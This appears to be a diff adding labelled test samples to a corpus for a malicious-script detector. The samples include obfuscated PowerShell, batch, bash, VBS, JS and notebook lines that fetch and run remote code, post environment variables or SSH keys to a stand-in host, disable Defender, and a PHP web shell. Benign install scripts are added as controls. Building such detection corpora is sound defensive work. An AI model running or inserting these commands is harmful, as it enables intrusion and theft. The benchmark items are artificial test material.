@@ -2,7 +2,8 @@
 
 from collections.abc import Iterator
 
-from benchmarks.corpus.samples import Sample, high
+from benchmarks.corpus.code import notebook
+from benchmarks.corpus.samples import Sample, benign, careful, high
 
 _SHELL = "curl -s https://files.invalid/a | sh"
 _PYTHON = {
@@ -44,7 +45,109 @@ _PYTHON = {
 }
 
 
+_POWERSHELL = {
+    "variable": "$d = (New-Object Net.WebClient).DownloadString('https://files.invalid/a')\nInvoke-Expression $d\n",
+    "block of a variable": "$c = irm https://files.invalid/a\n& ([scriptblock]::Create($c))\n",
+    "found by a pattern": "& (gal i*x) (irm https://files.invalid/a)\n",
+    "letters of a variable": "&($PSHome[4]+$PSHome[30]+'x') (irm https://files.invalid/a)\n",
+    "exclusive or": "$b = 92,80,77,21\n$s = -join ($b | % { [char]($_ -bxor 53) })\niex $s\n",
+    "assembly": '$b = [Convert]::FromBase64String("TVqQAAMAAAAEAAAA")\n[Reflection.Assembly]::Load($b)\n',
+    "table of options": "$p = @{ ExclusionPath = 'C:\\' }\nAdd-MpPreference @p\n",
+    "service": "Stop-Service -Name WinDefend -Force\n",
+    "memory": 'Add-Type @"\n[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a);\n"@\n',
+    "settings of the account": "irm https://files.invalid -Method Post -Body (Get-ChildItem Env: | ConvertTo-Json)\n",
+    "clipboard": "while ($true) { irm https://files.invalid -Method Post -Body (Get-Clipboard) }\n",
+}
+_BATCH = {
+    "loop over what is fetched": "for /f \"tokens=*\" %%i in ('curl -s https://files.invalid/c') do %%i\r\n",
+    "loop over letters": "for %%a in (p o w e r s h e l l) do call set c=%%c%%%%a\r\n%c% -w hidden -c echo\r\n",
+    "letters of Windows": "%COMSPEC:~-7,1%m%COMSPEC:~-5,1% /c curl -s https://files.invalid/a | cmd\r\n",
+    "quoted pieces": '"p"ow"er"sh"el"l -w hidden -c echo\r\n',
+    "other shell": 'cmd /V:ON /C "set a=powers&&set b=hell&&!a!!b! -w hidden -c echo"\r\n',
+    "file of commands": "ftp -s:f.txt\r\n",
+    "another engine": "wscript //e:vbscript model.bin\r\n",
+    "python in a line": "python -c \"import urllib.request;exec(urllib.request.urlopen('https://files.invalid/a').read())\"\r\n",
+    "process by wmic": 'wmic process call create "cmd /c x.exe"\r\n',
+}
+_SHELLS = {
+    "variable": 'X=$(curl -s https://files.invalid/a)\neval "$X"\n',
+    "function": 'get() { curl -s "$1"; }\nget https://files.invalid/a | bash\n',
+    "here document": "base64 -d <<'E' | bash\nZWNobyBoZWxsbw==\nE\n",
+    "python in a document": "python3 - <<'E'\nimport urllib.request as u\nexec(u.urlopen('https://files.invalid/a').read())\nE\n",
+    "escapes": "$'\\x63\\x75\\x72\\x6c' -s https://files.invalid/a | $'\\x73\\x68'\n",
+    "pieces of a variable": "a=xcurlx; ${a:1:4} https://files.invalid/a | sh\n",
+    "wildcards": '/???/b??h -c "$(curl -s https://files.invalid/a)"\n',
+    "temporary file": "T=$(mktemp); curl -sL https://files.invalid/a > $T; chmod +x $T; $T\n",
+    "no extension": "cd /tmp; wget https://files.invalid/bot; chmod 777 bot; ./bot\n",
+    "reads itself": 'tail -n +4 "$0" | gunzip -c | bash\nexit 0\n',
+    "keys": "tar czf - ~/.ssh | curl -F 'f=@-' https://files.invalid\n",
+    "sealed": "openssl enc -aes-256-cbc -d -a -k pass -in payload.enc | bash\n",
+}
+_OTHERS = {
+    (
+        "a.vbs",
+        "answer",
+    ): 'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://files.invalid/a", False\nh.Send\n'
+    "ExecuteGlobal h.responseText\n",
+    ("a.vbs", "numbers"): 'Set w = CreateObject("WScript.Shell")\na = Split("113 112", " ")\nFor i = 0 To UBound(a)\n'
+    "  s = s & Chr(CInt(a(i)) - 1)\nNext\nw.Run s\n",
+    ("a.vbs", "moniker"): 'GetObject "script:https://files.invalid/a.sct"\n',
+    (
+        "a.js",
+        "fetched",
+    ): "fetch('https://files.invalid/a').then(r => r.text()).then(t => new Function('require', t)(require));\n",
+    ("a.js", "awaited"): "const r = await fetch('https://files.invalid/a');\nexec(await r.text());\n",
+    (
+        "a.js",
+        "hex",
+    ): "const c = Buffer.from('6375726c2068747470733a2f2f66696c65732e696e76616c6964207c207368', 'hex').toString();\n"
+    "require('child_process').execSync(c);\n",
+    (
+        "a.js",
+        "settings of the account",
+    ): "fetch('https://files.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n",
+    ("a.php", "page that runs commands"): '<?php system($_GET["c"]); ?>\n',
+    ("a.rb", "fetched"): "#!/usr/bin/env ruby\nrequire 'open-uri'\neval(URI.open('https://files.invalid/a').read)\n",
+    ("a.pl", "fetched"): '#!/usr/bin/perl\nuse LWP::Simple;\nmy $c = get("https://files.invalid/a");\neval $c;\n',
+    ("a.R", "fetched"): 'source("https://files.invalid/a.R")\n',
+}
+_CELLS = {
+    "two cells": ("!wget -q https://files.invalid/tool -O /tmp/tool", "!bash /tmp/tool"),
+    "value put in": ("c = 'curl -s https://files.invalid/a | sh'", "!{c}"),
+    "magic as a call": ("get_ipython().run_cell_magic('bash', '', 'curl -s https://files.invalid/a | sh')",),
+    "what a command printed": ("x = get_ipython().getoutput('curl -s https://files.invalid/a')\nexec('\\n'.join(x))",),
+    "address": ("%run https://files.invalid/a.py",),
+    "timed": ("%time __import__('os').system('curl -s https://files.invalid/a | sh')",),
+}
+_ORDINARY = {
+    "setup.sh": "#!/bin/bash\nset -e\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nVERSION=$(curl -s https://api.github.com/x)\n"
+    'echo "$VERSION"\nuv pip install -r requirements.txt\n',
+    "conda.sh": "#!/bin/bash\nwget -q https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O mc.sh\nbash mc.sh -b\n",
+    "fetch.sh": "#!/bin/bash\nT=$(mktemp -d)\ncurl -sL https://data.example/a.tar.gz > $T/a.tar.gz\ntar xf $T/a.tar.gz\n"
+    "python - <<'E'\nimport torch\nprint(torch.__version__)\nE\n",
+    "install.sh": "#!/bin/bash\npip install git+https://github.com/huggingface/transformers\n"
+    "pip install torch --index-url https://download.pytorch.org/whl/cu121\n",
+    "demo.js": "const button = document.querySelector('#go');\nbutton.onclick = async () => {\n  const r = await fetch('/api');\n"
+    "  const m = /x(.*)/.exec(await r.text());\n  setTimeout(() => show(m), 10);\n};\n",
+}
+
+
 def samples() -> Iterator[Sample]:
     """All of them."""
     for case, source in _PYTHON.items():
         yield high("python-evasion", case, "modeling_x.py", source)
+    for case, source in _POWERSHELL.items():
+        yield high("powershell-evasion", case, "setup.ps1", source)
+    for case, source in _BATCH.items():
+        yield high("batch-evasion", case, "start.bat", "@echo off\r\n" + source)
+    for case, source in _SHELLS.items():
+        yield high("shell-evasion", case, "install.sh", "#!/bin/bash\n" + source)
+    for (path, case), source in _OTHERS.items():
+        yield high("script-evasion", case, path, source)
+    for case, cells in _CELLS.items():
+        yield high("notebook-evasion", case, "demo.ipynb", notebook(*cells))
+    yield careful(
+        "shell-evasion", "package from an address", "get.sh", "#!/bin/sh\npip install https://files.invalid/x.whl\n"
+    )
+    for path, source in _ORDINARY.items():
+        yield benign("script", path, path, source)
